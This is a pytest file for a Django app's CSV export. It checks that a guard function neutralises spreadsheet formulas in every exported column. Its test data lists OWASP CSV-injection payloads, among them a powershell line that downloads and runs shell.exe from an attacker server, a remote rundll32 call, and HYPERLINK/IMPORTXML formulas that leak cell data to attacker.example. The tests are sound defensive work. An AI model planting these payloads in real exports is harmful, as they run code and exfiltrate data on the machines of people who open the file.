"""CSV exports neutralise spreadsheet formulas (OWASP CSV injection) in every cell, through one function."""

import csv
import io

import pytest

from legacy.tests.factories import ListFactory, ListMemberFactory
from liffy.csv_export import spreadsheet_safe, unguarded
from persons.tests.factories import AffiliationFactory

# OWASP "CSV Injection" payloads, and what they would do when the file is opened in a spreadsheet
OWASP_VECTORS = [
    "=cmd|' /C calc'!A0",  # DDE: runs a program
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: please click for details")',  # exfiltration
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")',  # Google Sheets
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1",
]
HARMLESS = ["Jane", "Smith-Jones", "x=1", "a+b@example.com", "", "Jean\u00a0Dupont", "'quoted already"]


@pytest.mark.parametrize("vector", OWASP_VECTORS)
def test_a_formula_becomes_text(vector):
    assert spreadsheet_safe(vector) == "'" + vector


@pytest.mark.parametrize("value", [*HARMLESS, None, 42, -3.5])
def test_other_values_are_left_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.django_db
def test_the_list_export_neutralises_every_column(member_client, organizer):
    target = ListFactory(organizer=organizer)
    for n, vector in enumerate(OWASP_VECTORS):
        member = ListMemberFactory(
            list=target, person__email=f"p{n}@example.com", person__first_name=vector, person__last_name=vector
        )
        AffiliationFactory(
            person=member.person, company_name=vector, position=vector, city=vector, phone=vector, website=vector
        )
    clean = ListMemberFactory(
        list=target, person__email="jane@example.com", person__first_name="Jane", person__last_name="Smith-Jones"
    )
    AffiliationFactory(
        person=clean.person, company_name="x=1", position="", city="Berlin", phone="+49 30 1234", website=""
    )

    response = member_client.get(f"/api/lists/{target.pk}/export")
    exported = {row["email"]: row for row in csv.DictReader(io.StringIO(response.content.decode(), newline=""))}
    for n, vector in enumerate(OWASP_VECTORS):
        row = exported[f"p{n}@example.com"]
        for column in ("first_name", "last_name", "company", "position", "city", "phone", "website"):
            assert row[column] == "'" + vector, (column, vector)
    jane = exported["jane@example.com"]
    assert (jane["first_name"], jane["last_name"], jane["company"], jane["city"]) == (
        "Jane",
        "Smith-Jones",
        "x=1",
        "Berlin",
    )
    assert jane["phone"] == "'+49 30 1234"  # a leading + is a formula to a spreadsheet, whatever it meant


@pytest.mark.parametrize("cell", ["'quoted already", "x'", "'", "''=1", "Jane"])
def test_unguarded_leaves_cells_that_no_guard_wrote(cell):
    assert unguarded(cell) == cell


@pytest.mark.django_db
def test_an_exported_list_uploaded_again_keeps_its_values(member_client, organizer):
    target = ListFactory(organizer=organizer)
    member = ListMemberFactory(
        list=target, person__email="-dash@acme.de", person__first_name="=Jo", person__last_name="Lee"
    )
    AffiliationFactory(person=member.person, company_name="@Home GmbH", phone="+49 30 1234", city="Berlin")
    exported = member_client.get(f"/api/lists/{target.pk}/export").content
    assert b"'+49 30 1234" in exported and b"'-dash@acme.de" in exported

    upload = io.BytesIO(exported)
    upload.name = "export.csv"
    response = member_client.post("/api/lists/upload-csv", {"file": upload, "name": "Again"}, format="multipart")
    assert response.status_code == 201 and response.json()["import_progress"]["imported"] == 1, response.json()
    again = member_client.get(f"/api/lists/{response.json()['id']}/export").content
    assert again == exported
